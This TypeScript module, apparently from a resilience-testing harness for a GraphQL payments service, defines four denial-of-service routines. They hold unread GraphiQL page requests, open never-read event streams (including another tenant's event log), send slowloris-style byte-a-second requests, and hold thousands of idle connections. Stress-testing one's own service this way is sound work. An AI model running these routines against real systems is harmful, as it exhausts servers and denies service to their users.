// Attacks by connections that send little, slowly or nothing.
import { execFileSync } from 'node:child_process'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Attack } from '../attack.ts'
import { held, open, pause, repeat } from '../wire.ts'

export const graphiqlReaders: Attack = {
  name: 'graphiql-readers',
  what: '200 clients ask for the GraphiQL page 50 times each and never read',
  isCheap: false,
  async run(target, signal) {
    let asked = 0
    const page = 'GET /graphql HTTP/1.1\r\nHost: attacker\r\nAccept: text/html\r\n\r\n'
    await repeat(200, signal, async () => {
      const socket = await open(target, signal)
      if (socket === null) return await pause(signal)
      socket.pause()
      socket.write(page.repeat(50))
      asked += 50
      await held(socket, signal)
    })
    return { count: asked, did: `${asked} pages requested`, faults: 0 }
  },
}

const LOG = 'subscription { eventAdded { event { id } } }'

export const streamReaders: Attack = {
  name: 'stream-readers',
  what: '200 clients open server-sent events of payments, and of the event log of another tenant, and never read',
  isCheap: true,
  async run(target, signal) {
    let opened = 0
    const query = 'subscription ($clientSecret: String!) { checkoutUpdated(clientSecret: $clientSecret) { status } }'
    await repeat(200, signal, async (place) => {
      const socket = await open(target, signal)
      if (socket === null) return await pause(signal)
      const clientSecret = target.clientSecrets[place % target.clientSecrets.length]
      const isOfLog = place % 2 === 0
      const body = JSON.stringify(isOfLog ? { query: LOG } : { query, variables: { clientSecret } })
      const key = isOfLog ? `Authorization: Bearer ${target.apiKey}\r\n` : ''
      socket.pause()
      socket.write(
        'POST /graphql HTTP/1.1\r\nHost: attacker\r\nAccept: text/event-stream\r\nContent-Type: application/json\r\n' +
          `${key}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`,
      )
      opened += 1
      await held(socket, signal)
    })
    return { count: opened, did: `${opened} streams requested`, faults: 0 }
  },
}

export const slowRequests: Attack = {
  name: 'slow-requests',
  what: '500 clients send headers or a body, one byte a second',
  isCheap: false,
  async run(target, signal) {
    let begun = 0
    const body =
      'POST /intents HTTP/1.1\r\nHost: attacker\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n'
    await repeat(500, signal, async (place) => {
      const socket = await open(target, signal)
      if (socket === null) return await pause(signal)
      socket.resume()
      begun += 1
      socket.write(place % 2 === 0 ? 'GET /health HTTP/1.1\r\nX-Header: ' : body)
      const gone = held(socket, signal)
      while (!signal.aborted && socket.writable) {
        socket.write('x')
        await Promise.race([gone, sleep(1_000)])
      }
    })
    return { count: begun, did: `${begun} begun`, faults: 0 }
  },
}

const MAX_IDLE = 9_000

export const idleConnections: Attack = {
  name: 'idle-connections',
  what: 'up to 9,000 connections that send nothing',
  isCheap: false,
  async run(target, signal) {
    const count = Math.min(MAX_IDLE, Math.floor(mostFiles() / 2) - 200)
    let opened = 0
    await repeat(count, signal, async () => {
      const socket = await open(target, signal)
      if (socket === null) return await pause(signal)
      opened += 1
      socket.resume()
      await held(socket, signal)
    })
    return { count: opened, did: `${opened} opened, at most ${count} at once`, faults: 0 }
  },
}

/** The limit of open files of a process: a connection takes one at each end. */
const mostFiles = (): number => Number(execFileSync('/bin/sh', ['-c', 'ulimit -n']).toString()) || 1_024
